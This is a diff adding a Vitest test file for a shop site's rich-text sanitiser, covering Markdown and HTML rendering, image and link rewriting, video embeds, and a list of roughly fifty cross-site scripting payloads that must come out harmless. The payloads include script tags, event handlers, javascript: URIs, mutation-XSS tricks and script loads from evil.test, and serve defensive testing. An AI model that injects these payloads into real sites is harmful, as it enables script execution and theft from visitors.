@@ -1,0 +1,253 @@
+import { describe, expect, test, vi } from 'vitest';
+
+vi.stubEnv('CONTENT_SERVER_URL', 'http://content.test:1337');
+vi.stubEnv('SITE_URL', 'https://shop.test');
+const log = vi.spyOn(console, 'error').mockReturnValue();
+const { richText } = await import('./rich-text.ts');
+
+describe('HTML and Markdown come out of one pipeline (decision 20)', () => {
+  test('Markdown', () => {
+    expect(richText('**Bold** and [a link](/luggages/en)\n\n- one\n- two')).toBe(
+      '<p><strong>Bold</strong> and <a href="/luggages/en">a link</a></p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>',
+    );
+  });
+  test('HTML', () => {
+    expect(richText('<p>Some <em>words</em></p>')).toBe('<p>Some <em>words</em></p>');
+  });
+  test('Markdown with HTML in it, indented as editors do', () => {
+    expect(richText('A **case**\n\n<div>\n\n    <p>for <b>you</b></p>\n\n</div>')).toContain(
+      '<p>for <b>you</b></p>',
+    );
+  });
+  test.each([null, '', '  \n ', '<p> </p>', '<script>x()</script>', '<!-- note -->'])(
+    '%j is no text',
+    (source) => {
+      expect(richText(source)).toBeNull();
+    },
+  );
+});
+
+describe('headings', () => {
+  test('start below the page’s own', () => {
+    expect(richText('# A\n\n## B')).toBe('<h2>A</h2>\n<h3>B</h3>');
+    expect(richText('<h3>A</h3><h4>B</h4>')).toBe('<h2>A</h2><h3>B</h3>');
+  });
+  test('start deeper where the text stands deeper', () => {
+    expect(richText('<h1>A</h1><h6>B</h6>', { headingOffset: 3 })).toBe('<h4>A</h4><h6>B</h6>');
+  });
+});
+
+describe('pictures', () => {
+  test('of the content server come from the site, lazy, in its widths', () => {
+    const html = richText('![Aero](/uploads/aero.jpg)');
+    expect(html).toContain('src="/images/0/1200/uploads/aero.jpg.webp"');
+    expect(html).toContain('/images/0/480/uploads/aero.jpg.webp 480w');
+    expect(html).toContain('alt="Aero"');
+    expect(html).toContain('loading="lazy"');
+  });
+  test.each([
+    'http://content.test:1337/uploads/aero.jpg',
+    'https://cms.brand.test/uploads/aero_0123456789.jpg',
+    'http://localhost:1337/uploads/aero_0123456789.jpg',
+  ])('%s, as the editor’s browser wrote it, too', (src) => {
+    expect(richText(`<img src="${src}">`)).toMatch(/src="\/images\/0\/1200\/uploads\/aero/);
+  });
+  test('keep the size an editor gave', () => {
+    expect(richText('<img src="/uploads/a.png" width="200" height="100">')).toContain(
+      'width="200" height="100"',
+    );
+  });
+  test('that are drawings stay drawings', () => {
+    expect(richText('<img src="/uploads/a.svg">')).toContain('src="/files/0/uploads/a.svg"');
+  });
+  test.each([
+    'https://tracker.test/pixel.gif',
+    '//tracker.test/a.jpg',
+    'data:image/png;base64,AAAA',
+    'https://elsewhere.test/uploads/a.jpg',
+    '/uploads/a.exe',
+    '/admin/a.jpg',
+  ])('%s is left out (decision 26)', (src) => {
+    expect(richText(`<p>Words<img src="${src}"></p>`)).toBe('<p>Words</p>');
+  });
+});
+
+describe('links', () => {
+  test.each([
+    ['/stories/en', '/stories/en'],
+    ['#care', '#care'],
+    ['mailto:help@shop.test', 'mailto:help@shop.test'],
+    ['tel:+6328123', 'tel:+6328123'],
+    ['https://shop.test/gifts/en?page=2', '/gifts/en?page=2'],
+    ['/uploads/manual.pdf', '/files/0/uploads/manual.pdf'],
+    ['http://content.test:1337/uploads/big.jpg', '/images/0/1200/uploads/big.jpg.webp'],
+  ])('%s leads to %s', (href, leads) => {
+    expect(richText(`<a href="${href}">x</a>`)).toBe(`<p><a href="${leads}">x</a></p>`);
+  });
+  test('to elsewhere cannot reach back', () => {
+    expect(richText('<a href="https://other.test/" target="_blank" onclick="x()">x</a>')).toBe(
+      '<p><a href="https://other.test/" rel="noopener" target="_blank">x</a></p>',
+    );
+  });
+  test.each([
+    'http://content.test:1337/admin',
+    '/uploads/setup.exe',
+    'ftp://x.test/',
+    'file:///etc/passwd',
+    '',
+  ])('"%s" is words only', (href) => {
+    expect(richText(`<p><a href="${href}">x</a></p>`)).toBe('<p><span>x</span></p>');
+  });
+});
+
+describe('films', () => {
+  test.each([
+    [
+      'https://www.youtube.com/embed/abcdefghijk?rel=0',
+      'https://www.youtube.com/watch?v=abcdefghijk',
+    ],
+    [
+      'https://www.youtube-nocookie.com/embed/abcdefghijk',
+      'https://www.youtube.com/watch?v=abcdefghijk',
+    ],
+    ['//youtu.be/abcdefghijk', 'https://www.youtube.com/watch?v=abcdefghijk'],
+    ['https://player.vimeo.com/video/12345678?h=1', 'https://vimeo.com/12345678'],
+  ])('%s is a link until it is followed', (src, href) => {
+    const html = richText(`<iframe src="${src}" title="Our film">No frames</iframe>`);
+    expect(html).toMatch(
+      /^<a href="[^"]+" rel="noopener" class="video-link" target="_blank">Our film \((YouTube|Vimeo)\)<\/a>$/,
+    );
+    expect(html).toContain(`"${href}"`);
+  });
+  test('as CKEditor writes them', () => {
+    expect(
+      richText(
+        '<figure class="media"><oembed url="https://youtu.be/abcdefghijk"></oembed></figure>',
+      ),
+    ).toContain('>YouTube</a>');
+  });
+  test.each([
+    'https://evil.test/embed/abcdefghijk',
+    'https://youtube.com.evil.test/embed/abcdefghijk',
+    'javascript:alert(1)',
+    'https://www.youtube.com/embed/"><script>',
+  ])('a frame of %s is dropped', (src) => {
+    expect(richText(`<p>Words</p><iframe src='${src}'><b>fallback</b></iframe>`)).toBe(
+      '<p>Words</p>',
+    );
+  });
+  test('of the content server play on the page', () => {
+    const html = richText(
+      '<video autoplay onplay="x()"><source src="/uploads/f.mp4" type="text/html"></video>',
+    );
+    expect(html).toContain('<video controls preload="none" playsinline>');
+    expect(html).toContain('<source src="/files/0/uploads/f.mp4" type="video/mp4" />');
+  });
+});
+
+test('tables can be scrolled', () => {
+  expect(richText('| a |\n|---|\n| 1 |')).toMatch(
+    /^<div class="table-scroll" tabindex="0"><table>[^]*<\/table><\/div>$/,
+  );
+});
+
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="/uploads/a.jpg" onload="alert(1)" style="position:fixed">',
+  '<img src="/uploads/a.jpg" alt="&quot; onerror=alert(1) x=&quot;">',
+  '<img src="/uploads/a.jpg&quot; onerror=&quot;alert(1)">',
+  '<img src=`javascript:alert(1)`>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" java\nscript:alert(1)">x</a>',
+  '<a href="java&#x09;script:alert(1)">x</a>',
+  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="blob:https://evil.test/1">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '![x](javascript:alert(1))',
+  '![x](x "onerror=alert(1)")',
+  '<javascript:alert(1)>',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><input type=submit autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="https://evil.test/"><link rel=stylesheet href="//evil.test/x.css">',
+  '<style>@import "//evil.test/x.css"; body{display:none}</style>',
+  '<p style="background:url(javascript:alert(1))" onclick=alert(1) id=x class=y>x</p>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<video src="/uploads/a.mp4" onloadstart=alert(1) poster="javascript:alert(1)"></video>',
+  '<video><source onerror=alert(1)></video>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<a href="https://x.test" onmouseover="alert(1)"title=x>x</a>',
+  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
+  '`<img src=x onerror=alert(1)>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '<iframe src="https://www.youtube.com/embed/abcdefghijk" title="</a><script>alert(1)</script>">',
+  '<oembed url="javascript:alert(1)"></oembed>',
+  '<div data-astro-reload data-astro-rerun><a href="/x" data-astro-history="replace">x</a></div>',
+];
+
+test.each(ATTACKS)('nothing runs or loads from elsewhere: %s', (attack) => {
+  const html = richText(`Before\n\n${attack}\n\nAfter`) ?? '';
+  expect(html).toContain('Before');
+  for (const [, name, attributes = ''] of html.matchAll(
+    /<([a-z0-9]+)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/gi,
+  )) {
+    expect(ALLOWED).toContain(name);
+    for (const [, attribute, value = ''] of attributes.matchAll(/([\w-]+)(?:="([^"]*)")?/g)) {
+      expect([
+        'href',
+        'src',
+        'srcset',
+        'rel',
+        'target',
+        'class',
+        'alt',
+        'loading',
+        'decoding',
+        'sizes',
+        'controls',
+        'preload',
+        'playsinline',
+        'type',
+        'tabindex',
+      ]).toContain(attribute);
+      if (attribute === 'src')
+        expect(value).toMatch(/^\/(images|files)\/0\/uploads?\/?|^\/images\/0\/\d+\/uploads\//);
+      if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|\/|#|mailto:|tel:)/);
+    }
+  }
+  // Every '<' that is left begins one of the tags that were just looked at, or its end.
+  expect(html.replace(/<\/?[a-z0-9]+((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/gi, '')).not.toContain(
+    '<',
+  );
+});
+const ALLOWED =
+  'p a b strong em code pre span div table tbody tr td h2 img video source details summary'.split(
+    ' ',
+  );
+
+test('a text that cannot be read is left out, not thrown', () => {
+  expect(richText('> '.repeat(5000))).toBeNull();
+  expect(log).toHaveBeenCalledOnce();
+});
